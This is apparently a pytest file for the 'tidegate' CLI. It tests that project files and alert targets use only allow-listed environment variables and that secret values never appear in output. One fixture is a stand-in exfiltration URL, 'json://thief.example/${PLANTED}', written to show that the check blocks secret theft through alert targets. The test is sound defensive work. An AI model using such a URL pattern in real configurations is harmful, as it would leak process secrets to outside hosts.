"""X1: files of a project use the variables of the environment that are listed, each where it is listed for."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from tidegate.cli.main import app

MINE = "CREATE TABLE t (id INT) APPEND ONLY;\n"


#: Wherever the data team's files are read with variables.
FILES_WITH_VARIABLES = {
    "assets/a.sql": "-- ---\n-- description: ${{{}}}\n-- ---\n" + MINE,
    "quality/t.yaml": (
        "asset: t\nexpectations:\n  - expect_column_values_to_not_be_null: {{column: id, description: '${{{}}}'}}\n"
    ),
    "jobs/schedules.yaml": (
        "schedules:\n  - {{name: a, cron: '1 * * * *', timezone: '${{{}}}', select: '*', enabled: false}}\n"
    ),
    "jobs/amendments.yaml": (
        "amendments:\n  - {{name: a, cron: '1 * * * *', timezone: '${{{}}}', select: '*', enabled: false}}\n"
    ),
    "jobs/maintenance.yaml": "tables:\n  t: {{retention: '${{{}}}'}}\n",
}


@pytest.mark.parametrize("file", FILES_WITH_VARIABLES)
def test_X1_a_variable_that_is_not_listed_is_in_no_file_of_the_project(
    file: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLANTED", "hunter2-hunter2")
    monkeypatch.setenv("LISTED", {"jobs/maintenance.yaml": "9 days"}.get(file, "UTC"))
    (tmp_path / "resources").mkdir()
    (tmp_path / "resources" / "local.yaml").write_text("allow: {variables: [LISTED]}\n")
    path = tmp_path / file
    for folder in ("assets", path.parent.name):
        (tmp_path / folder).mkdir(exist_ok=True)
    (tmp_path / "assets" / "a.sql").write_text(MINE)
    for name in ("PLANTED", "LISTED"):
        path.write_text(FILES_WITH_VARIABLES[file].format(name))
        done = CliRunner().invoke(app, ["check", "--project", str(tmp_path)])
        assert ("TG614" in done.output) == (name == "PLANTED"), done.output
        assert "hunter2" not in done.output
        said = (
            'the operator of tidegate can allow it in resources/local.yaml, allow: {variables: ["PLANTED"]}'
        )
        assert (said in done.output) == (name == "PLANTED")


def test_X1_a_target_of_alerts_uses_the_variables_that_are_listed_for_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Who writes jobs/ could else have any secret of the process sent to any address."""
    monkeypatch.setenv("PLANTED", "hunter2-hunter2")
    for folder in ("assets", "jobs", "resources"):
        (tmp_path / folder).mkdir()
    (tmp_path / "assets" / "a.sql").write_text(MINE)

    def check(url: str, allow: str) -> str:
        target = f"alerts: {{targets: [{{name: t, url: '{url}'}}], routes: [{{to: [t]}}]}}\n"
        (tmp_path / "jobs" / "alerts.yaml").write_text(target)
        (tmp_path / "resources" / "local.yaml").write_text(f"allow: {{{allow}}}\n")
        text: str = CliRunner().invoke(app, ["check", "--project", str(tmp_path)]).output
        assert "hunter2" not in text
        return text

    url = "json://thief.example/${PLANTED}"
    for allow in ("", "variables: [OTHER]", "alerts: [TOKEN]"):
        said = check(url, allow)
        assert "TG614: targets of alerts may not use the environment variable PLANTED" in said
        assert (
            'the operator of tidegate can allow it in resources/local.yaml, allow: {alerts: ["PLANTED"]}'
            in said
        )
        assert "jobs/alerts.yaml:1:" in said
    for allow in ("variables: [PLANTED]", "alerts: [PLANTED]"):
        assert "no problems" in check(url, allow)
    # What a new project has, without a list; and a variable of alerts is none of SQL.
    assert "no problems" in check("${TIDEGATE_ALERT_URL}", "")
    assert "TG614" in check("${TIDEGATE_ALERT_URL}", "alerts: []")
    (tmp_path / "assets" / "a.sql").write_text(FILES_WITH_VARIABLES["assets/a.sql"].format("PLANTED"))
    assert "files of a project may not use" in check(url, "alerts: [PLANTED]")
